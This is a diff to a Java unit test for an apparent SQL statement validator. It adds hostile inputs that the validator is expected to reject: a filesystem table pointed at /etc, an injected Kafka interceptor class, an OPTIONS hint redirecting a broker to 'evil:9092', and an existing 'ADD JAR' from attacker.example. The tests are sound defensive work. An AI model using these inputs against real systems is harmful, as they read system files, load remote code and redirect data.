@@ -49,7 +49,16 @@ class StoredStatementsTest {
                 "CREATE TABLE shop.orders WITH ('connector' = 'datagen') AS SELECT 1 AS id",
                 "CREATE TABLE shop.orders (id BIGINT) WITH ('connector' = 'datagen') LIKE x",
                 "DROP TABLE shop.orders",
-                "not sql at all"
+                "not sql at all",
+                "CREATE TABLE shop.orders (id BIGINT) WITH ('connector' = 'filesystem', 'path' ="
+                        + " 'file:///etc', 'format' = 'csv')",
+                "CREATE TABLE shop.orders (id BIGINT) WITH ('path' = 'file:///etc')",
+                "CREATE TABLE shop.orders (id BIGINT) WITH ('connector' = 'kafka', 'topic' ="
+                        + " 'mt.ddl.results', 'format' = 'json')",
+                "CREATE TABLE shop.orders (id BIGINT) WITH ('connector' = 'kafka', 'topic' = 't',"
+                        + " 'format' = 'json', 'properties.interceptor.classes' = 'a.Evil')",
+                "CREATE TABLE shop.orders (id BIGINT) WITH ('connector' = 'kafka', 'topic' = 't',"
+                        + " 'format' = 'avro-confluent')"
             })
     void anythingElseIsRefusedInTheDefinitionAndInAReadersSources(String statement) {
         assertThatThrownBy(() -> StoredStatements.check(source(statement)))
@@ -65,7 +74,11 @@ class StoredStatementsTest {
             strings = {
                 "DROP TABLE shop.orders",
                 "SELECT 1; ADD JAR 'http://attacker.example/evil.jar'",
-                "INSERT INTO shop.orders SELECT 1, 'x'"
+                "INSERT INTO shop.orders SELECT 1, 'x'",
+                "SELECT * FROM shop.orders /*+ OPTIONS('scan.snapshot-id' = '3') */",
+                "SELECT id FROM (SELECT o.id FROM shop.orders o JOIN shop.orders /*+"
+                        + " OPTIONS('properties.bootstrap.servers' = 'evil:9092') */ p ON o.id ="
+                        + " p.id)"
             })
     void aQueryThatIsNotOneQueryIsRefused(String query) {
         assertThatThrownBy(() -> StoredStatements.check(materialized(DECLARED, query)))
@@ -79,7 +92,7 @@ class StoredStatementsTest {
                         "WITH x AS (SELECT id FROM shop.orders) SELECT * FROM x ORDER BY id",
                         "SELECT window_start, count(*) FROM TABLE(TUMBLE(TABLE shop.orders,"
                                 + " DESCRIPTOR(ts), INTERVAL '1' MINUTE)) GROUP BY window_start",
-                        "SELECT * FROM shop.orders /*+ OPTIONS('scan.snapshot-id' = '3') */")) {
+                        "SELECT /*+ STATE_TTL('o' = '1d') */ * FROM shop.orders o")) {
             assertThatCode(() -> StoredStatements.check(materialized(DECLARED, query)))
                     .as(query)
                     .doesNotThrowAnyException();
